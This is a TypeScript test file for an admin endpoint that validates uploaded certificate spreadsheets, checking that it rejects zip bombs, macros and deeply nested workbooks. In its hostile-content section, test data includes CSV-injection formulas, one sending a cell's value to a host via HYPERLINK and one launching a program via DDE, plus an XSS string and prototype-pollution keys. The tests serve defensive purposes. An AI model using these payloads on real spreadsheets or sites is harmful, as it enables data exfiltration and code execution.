import { readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { beforeAll, describe, expect, test } from 'vitest';
import { adminToken, arrivingFiles, call, origin } from '../support/client';
import { busyFormat, deepLists, ROW, refusedLists, rows, TOO_MUCH_WORK } from '../support/hostile-lists';
import { readBeside } from '../support/readers';
import { form } from '../support/samples';
import { csv, HEAD, packed, partsOf, sheetData, xlsxOf } from '../support/sheets';

/** A file may take five seconds to read; the rest is slack for a busy machine. */
const PATIENCE_MS = 5000 + 10_000;
let token: string;
beforeAll(async () => {
  token = await adminToken();
});

const check = async (file: Buffer, name: string) => {
  const begun = performance.now();
  const answer = await call('POST', '/admin/certificates/sheet/check', {
    token,
    raw: form({}, { sheet: [file, name] }),
  });
  expect(performance.now() - begun).toBeLessThan(PATIENCE_MS);
  // Certificate PDFs do not count.
  expect(arrivingFiles()).toEqual([]);
  return answer;
};

/** Returns files by name. A unit test (`certificate/sheet/hostile-lists`) checks the message for every file. */
const some = (...names: string[]) => {
  const found = refusedLists.filter(([name]) => names.includes(name));
  expect(found).toHaveLength(names.length);
  return found;
};

describe('A file that is not a list', () => {
  test.each(some('bomb-that-lies.xlsx', 'macros.xlsx', 'latin.csv', 'nul.csv'))(
    '%s is rejected with a reason',
    async (name, file, msg) => {
      const { status, body } = await check(await file(), name);
      expect([status, body]).toEqual([
        400,
        { success: false, code: 'INVALID_INPUT', message: msg, errors: [{ field: 'sheet', msg }] },
      ]);
    },
  );

  test('leaves nothing in the temporary folder', () => {
    expect(readdirSync(tmpdir()).filter((name) => /^[0-9a-f]{25}$/.test(name))).toEqual([]);
  });
});

describe('A small workbook that would keep the server busy for minutes', () => {
  test.each<[what: string, file: () => Buffer | Promise<Buffer>, msg: string]>([
    ...deepLists.filter(([what]) => what === 'a million tags deep'),
    ['a format that is matched a million times', busyFormat, TOO_MUCH_WORK],
  ])('%s is rejected without delaying others', async (what, file, msg) => {
    const bytes = await file();
    const answer = await readBeside(what, origin, () => check(bytes, 'deep.xlsx'));
    expect([answer.status, answer.body.message]).toEqual([400, msg]);
  });

  test('does not delay the next list', async () => {
    expect((await check(packed(partsOf(sheetData(rows))), 'list.xlsx')).status).toBe(200);
  });

  test('is accepted if its elements are nested 32 levels deep', async () => {
    const deep = `${'<a>'.repeat(31)}${'</a>'.repeat(31)}`;
    expect((await check(packed(partsOf(sheetData(rows) + deep)), 'list.xlsx')).status).toBe(200);
  });
});

const errorsOf = async (file: Buffer) => {
  const { status, body } = await check(file, 'list.xlsx');
  expect(status).toBe(200);
  return body.data.rows[0].errors;
};

describe('A list with hostile content', () => {
  test.each([
    ['=1+1', 'a formula'],
    ['=HYPERLINK("http://127.0.0.1/?"&A1,"Asha")', 'a formula that calls home'],
    ["=cmd|'/c calc'!A0", 'a formula that starts a program'],
    ['="00012"', 'a formula that keeps zeros'],
  ])('%s is %s and is not accepted as a name', async (formula) => {
    expect(await errorsOf(csv([HEAD, [formula, 'Web', 'Course', '', '', '']]))).toEqual([
      { field: 'Name', msg: 'This is a formula. Please paste its result as a value.' },
    ]);
  });

  test('a huge cell gets an error and is not returned in full', async () => {
    for (const file of [
      csv([HEAD, ['x'.repeat(900_000), 'Web', 'Course', '', '', '']]),
      await xlsxOf([HEAD, ['x'.repeat(32_767), 'Web', 'Course']]),
    ]) {
      const { body } = await check(file, 'list.csv');
      expect(body.data.rows[0].errors).toEqual([{ field: 'Name', msg: 'Name must be at most 120 characters long.' }]);
      expect(JSON.stringify(body).length).toBeLessThan(2000);
    }
  });

  test('a cell far to the right, ten thousand cells after it, and a cell in the last row are read quickly', async () => {
    const far = `<c r="XFD2" t="inlineStr"><is><t>far</t></is></c>`;
    const many = '<c t="inlineStr"><is><t>x</t></is></c>'.repeat(10_000);
    const cells = (names: readonly string[], row: number) =>
      names.map((name, index) => `<c r="${'ABC'[index]}${row}" t="inlineStr"><is><t>${name}</t></is></c>`).join('');
    const sheet = `<sheetData><row r="1">${cells(HEAD.slice(0, 3), 1)}</row><row r="1048576">${cells(ROW, 1048576)}${far}${many}</row></sheetData>`;
    const { body } = await check(packed(partsOf(sheet)), 'far.xlsx');
    expect(body.data.rows).toMatchObject([{ row: 1_048_576, texts: { Name: 'Sample' }, errors: [] }]);
  });

  test('HTML and the names of object properties are treated as plain text', async () => {
    const { body } = await check(
      csv([
        [...HEAD, '__proto__', 'constructor'],
        ['<img src=x onerror=alert(1)>', 'Web', 'Course', '', '', '', 'a', 'b'],
      ]),
      'list.csv',
    );
    expect(body.data).toMatchObject({
      rows: [{ texts: { Name: '<img src=x onerror=alert(1)>' }, errors: [] }],
      ignored: ['__proto__', 'constructor'],
    });
  });
});
